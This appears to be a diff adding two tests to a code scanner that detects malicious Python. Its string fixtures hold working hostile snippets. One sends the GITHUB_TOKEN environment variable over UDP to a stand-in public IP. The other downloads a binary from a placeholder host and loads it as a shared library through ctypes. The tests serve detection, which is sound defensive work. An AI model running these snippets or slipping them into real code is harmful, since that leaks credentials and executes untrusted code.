@@ -338,6 +338,47 @@ def test_ordinary_code_comments_are_not_instructions(scan):
     assert [f for f in findings if f.severity.rank >= MEDIUM.rank] == []
 
 
+def test_secret_sent_over_a_socket_to_a_public_address_is_critical(scan):
+    def code(host: str) -> str:
+        return (
+            "import json, os, socket\n"
+            "info = json.dumps({'gh': os.environ.get('GITHUB_TOKEN')})\n"
+            "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
+            f"s.sendto(info.encode(), ('{host}', 53))\n"
+        )
+
+    public = of_rule(
+        scan({"scripts/p.py": code("198.51.100.200")}, "signatures"), "py.secret-to-foreign-host"
+    )
+    local = of_rule(
+        scan({"scripts/p.py": code("127.0.0.1")}, "signatures"), "py.secret-to-foreign-host"
+    )
+
+    assert [(f.line_number, f.severity) for f in public] == [(4, CRITICAL)]
+    assert local == []
+
+
+def test_downloaded_library_loaded_from_a_temporary_file_is_run(scan):
+    def code(loader: str) -> str:
+        return (
+            "import ctypes, os, tempfile, urllib.request\n"
+            "payload = urllib.request.urlopen('https://db.example.net/db.bin').read()\n"
+            "fd, path = tempfile.mkstemp(suffix='.so')\n"
+            "os.write(fd, payload)\nos.close(fd)\n"
+            f"{loader}\n"
+        )
+
+    loaded = of_rule(
+        scan({"scripts/a.py": code("ctypes.CDLL(path)")}, "signatures"), "py.exec-remote"
+    )
+    kept = of_rule(
+        scan({"scripts/a.py": code("print(os.path.getsize(path))")}, "signatures"), "py.exec-remote"
+    )
+
+    assert [(f.line_number, f.severity) for f in loaded] == [(6, HIGH)]
+    assert kept == []
+
+
 # --- Python code checks -------------------------------------------------------------
 
 
